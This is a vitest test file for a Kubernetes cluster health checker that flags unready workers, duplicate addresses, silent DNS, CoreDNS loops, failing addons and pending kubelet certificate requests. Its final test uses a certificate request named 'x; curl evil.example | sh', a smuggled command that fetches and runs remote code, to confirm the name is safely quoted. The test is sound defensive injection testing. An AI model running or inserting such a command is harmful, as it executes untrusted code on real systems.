import { expect, test } from 'vitest';
import { refused } from '../../../test/refused.ts';
import type { Node, Pod } from '../../kube/objects.ts';
import { type Needs, needsProblems } from './users-needs.ts';

const now = new Date('2026-01-01T01:00:00Z');
const long = '2026-01-01T00:00:00Z';

const worker = (name: string, address = '10.0.0.1', status = 'True', since = long): Node => ({
  apiVersion: 'v1',
  kind: 'Node',
  metadata: { name },
  status: {
    addresses: [{ type: 'InternalIP', address }],
    conditions: [{ type: 'Ready', status, reason: 'NodeStatusUnknown', lastTransitionTime: since }],
  },
});
type State = NonNullable<NonNullable<NonNullable<Pod['status']>['containerStatuses']>[0]['state']>;
const pod = (app: string, state: State, node = 'w1'): Pod => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: `${app}-x`, namespace: 'kube-system', labels: { 'k8s-app': app } },
  spec: { nodeName: node, containers: [{ name: app, image: 'there/is:none' }] },
  status: { containerStatuses: [{ name: app, ready: false, restartCount: 0, image: '', state }] },
});
const noImage = { waiting: { reason: 'ImagePullBackOff', message: 'there/is:none: not refused' } };
const crash = { waiting: { reason: 'CrashLoopBackOff' } };
const slice = (ready: boolean) => ({
  apiVersion: 'discovery.k8s.io/v1',
  kind: 'EndpointSlice',
  metadata: { name: 'kube-dns-x' },
  endpoints: [{ conditions: { ready } }],
});
const request = (name: string, node: string, made: string, certificate?: string) => ({
  apiVersion: 'certificates.k8s.io/v1',
  kind: 'CertificateSigningRequest',
  metadata: { name, creationTimestamp: made },
  spec: { request: '', signerName: 'kubernetes.io/kubelet-serving', username: `system:node:${node}` },
  status: certificate ? { certificate } : {},
});

const well: Needs = { nodes: [worker('w1')], pods: [], slices: [slice(true)], requests: [] };
const problems = (change: Partial<Needs>, childAssets = true) =>
  needsProblems({ ...well, ...change }, { childAssets }, 'team', now);

test('a cluster without workers, and one whose workers and DNS are ready, lack nothing', () => {
  expect(problems({})).toEqual([]);
  expect(problems({ nodes: [], slices: [] })).toEqual([]);
});

test('P7: workers that are not Ready are named, and it is said when none is', () => {
  const lost = worker('w2', '10.0.0.2', 'Unknown');
  expect(problems({ nodes: [worker('w1'), lost] })).toEqual([refused('worker-not-ready', '1 of 2', 'w2')]);
  expect(problems({ nodes: [lost] })).toEqual([refused('worker-not-ready', 'no worker', 'w2')]);
});

test('P7: two workers with one address are named', () => {
  expect(problems({ nodes: [worker('w1'), worker('w2')] })).toEqual([
    refused('worker-address-twice', 'w1, w2', '10.0.0.1'),
  ]);
});

test('P7: DNS without a ready pod is told with the reason of the pod', () => {
  const slices = [slice(false)];
  expect(problems({ slices, pods: [pod('kube-dns', noImage)] })).toEqual([refused('dns-silent', 'there/is:none')]);
  expect(problems({ slices: [] })).toEqual([refused('dns-silent')]);
  expect(problems({ slices: [] }, false)).toEqual([]);
});

test('DNS is given time to start after the first worker is there, unless no time mends it', () => {
  const nodes = [worker('w1', '10.0.0.1', 'True', '2026-01-01T00:59:50Z')];
  expect(problems({ nodes, slices: [], pods: [pod('kube-dns', { running: {} })] })).toEqual([]);
  expect(problems({ nodes, slices: [], pods: [pod('kube-dns', noImage)] })).toHaveLength(1);
});

test('P7: a CoreDNS that forwards to itself is told as such', () => {
  const lastWords = '[FATAL] plugin/loop: Loop (127.0.0.1:1 -> :53) detected for zone "."';
  expect(problems({ slices: [], pods: [pod('kube-dns', crash)], lastWords })).toEqual([
    refused('dns-silent', 'forwards to itself', 'resolvConf'),
  ]);
});

test('what does not start on several workers is told once', () => {
  expect(problems({ pods: [pod('kube-proxy', noImage), pod('kube-proxy', noImage, 'w2')] })).toEqual([
    refused('addon-not-running', 'kube-proxy', 'w1, w2', 'there/is:none'),
  ]);
  expect(problems({ pods: [pod('flannel', { waiting: { reason: 'ContainerCreating' } })] })).toEqual([]);
});

test('a serving certificate that a kubelet waits for is told with the reason of the approver', () => {
  expect(problems({ requests: [request('csr-1', 'w1', long)] })).toEqual([
    refused('kubelet-certificate', 'system:node:w1', 'csr-1', 'certificate request'),
  ]);
  expect(problems({ requests: [request('csr-1', 'w1', '2026-01-01T00:59:50Z')] })).toEqual([]);
  const later = request('csr-2', 'w1', '2026-01-01T00:30:00Z', 'a certificate');
  expect(problems({ requests: [later, request('csr-1', 'w1', long)] })).toEqual([]);
});

test('who makes a hundred requests does not fill the screen, and the name of one becomes no command', () => {
  const many = Array.from({ length: 100 }, (_, index) => request(`csr-${index}`, `w${index}`, long));
  const found = problems({ requests: many });
  expect(found).toHaveLength(6);
  expect(found.at(-1)).toEqual(refused('kubelet-certificate', '95 other'));
  const hostile = problems({ requests: [request('x; curl evil.example | sh', 'w1', long)] });
  expect(hostile).toEqual([refused('kubelet-certificate', "approve 'x; curl evil.example | sh'")]);
});
